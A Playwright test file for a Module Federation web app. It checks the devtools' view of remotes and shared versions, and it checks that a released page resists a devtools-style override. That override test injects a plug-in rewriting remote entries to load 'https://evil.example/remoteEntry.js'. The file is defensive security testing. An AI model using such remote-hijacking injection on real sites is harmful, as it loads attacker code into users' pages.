import { expect, test } from '../support/journey-test';

/** What the browser devtools of Module Federation read of a page; it crosses the boundary as JSON. */
const readDevtools = () => {
  const { __INSTANCES__, __SHARE__, moduleInfo } = globalThis.__FEDERATION__;
  return {
    instances: __INSTANCES__.map(({ name }) => name),
    moduleInfo: JSON.parse(JSON.stringify(moduleInfo)) as Record<string, ModuleInfo>,
    scopes: Object.values(__SHARE__).map((scopes) => Object.keys(scopes['default'] ?? {})),
  };
};

type ModuleInfo = {
  version: string;
  modules: { modulePath: string }[];
  shared: { sharedName: string; version: string }[];
  remotesInfo: Record<string, { matchedVersion: string }>;
};

declare global {
  var __FEDERATION__: {
    __INSTANCES__: { name: string }[];
    __SHARE__: Record<string, Record<string, object>>;
    moduleInfo: object;
  };
}

test('the devtools of Module Federation show shell, remotes and shared versions', async ({ page }) => {
  await page.goto('/products');
  await expect(page.getByRole('heading', { name: 'Our Products' })).toBeVisible();
  await expect.poll(async () => (await page.evaluate(readDevtools)).instances).toEqual(['shell', 'storefront']);
  const { moduleInfo, scopes } = await page.evaluate(readDevtools);
  const shell = moduleInfo['shell'];
  expect(Object.keys(shell?.remotesInfo ?? {}).sort()).toEqual([
    'checkout',
    'dashboard_admin',
    'dashboard_seller',
    'storefront',
  ]);
  const version = shell?.remotesInfo['storefront']?.matchedVersion ?? '';
  const paths = moduleInfo[`storefront:${version}`]?.modules.map(({ modulePath }) => modulePath);
  expect(paths).toContain('./catalogue-page');
  expect(shell?.shared.find(({ sharedName }) => sharedName === 'react')?.version).toMatch(/^19\./);
  expect(scopes[0]).toContain('shared-auth');
});

/** As the browser extension does before the page's scripts: a plug-in that replaces remotes, and another runtime. */
const injectOverride = () => {
  const calls: string[] = [];
  const plugin = {
    name: 'mf-chrome-devtools-override-remotes-plugin',
    beforeRegisterRemote(args: { remote: { name: string; entry?: string } }) {
      calls.push(args.remote.name);
      args.remote.entry = 'https://evil.example/remoteEntry.js';
      return args;
    },
  };
  class OtherRuntime {
    constructor() {
      calls.push('constructor');
    }
  }
  const federation = { __GLOBAL_PLUGIN__: [plugin], __DEBUG_CONSTRUCTOR__: OtherRuntime };
  Object.assign(globalThis, { calls, __FEDERATION__: federation });
};

test('devtools cannot replace a remote of a released page', async ({ page }) => {
  const requested: string[] = [];
  page.on('request', (request) => requested.push(request.url()));
  await page.addInitScript(injectOverride);
  await page.goto('/products');
  await expect(page.getByRole('heading', { name: 'Our Products' })).toBeVisible();
  await expect.poll(async () => (await page.evaluate(readDevtools)).instances).toContain('storefront');
  expect(await page.evaluate(() => (globalThis as unknown as { calls: string[] }).calls)).toEqual([]);
  expect(requested.filter((address) => address.includes('evil.example'))).toEqual([]);
});
